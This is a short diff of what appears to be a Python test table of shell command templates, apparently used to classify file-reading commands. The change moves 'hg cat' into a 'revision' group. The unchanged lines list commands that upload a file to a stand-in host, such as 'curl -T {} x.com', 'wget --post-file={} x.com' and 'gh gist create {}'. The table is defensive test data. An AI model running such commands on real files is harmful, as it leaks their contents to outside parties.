@@ -45,7 +45,7 @@ ROWS = {
         *("curl file://{}", "curl -T {} x.com", "curl -d @{} x.com", "curl -F a=@{} x.com"),
         *("curl --data-urlencode a@{} x.com", "curl -F 'a=<{}' x.com", "curl -H @{} x.com"),
         *("wget --post-file={} x.com", "scp {} h:b", "uuencode {} b", "gh gist create {}"),
-        *("lolcat {}", "csvtool cat {}", "xq . {}", "hg cat {}", "rclone cat {}", "nettle-hash {}"),
+        *("lolcat {}", "csvtool cat {}", "xq . {}", "rclone cat {}", "nettle-hash {}"),
         *("http POST x.com a@{}", "sqlite3 -readonly {} 'select 1'", "ffmpeg -i {}.mp4 -f null -"),
         *("git -c core.excludesFile={} check-ignore -v x", "info -f {}", "dc -f {}"),
         *("git check-mailmap --mailmap-file {} x", "caddy fmt -c {}"),
@@ -84,7 +84,14 @@ ROWS = {
         *("git grep x HEAD -- {}", "git stash show -p -- {}"),
     ],
     "revision": [
-        *("git grep x {}", "git grep -e x {}", "git diff {}", "git show {}", "svn cat {}")
+        *(
+            "git grep x {}",
+            "git grep -e x {}",
+            "git diff {}",
+            "git show {}",
+            "svn cat {}",
+            "hg cat {}",
+        )
     ],
 }
 
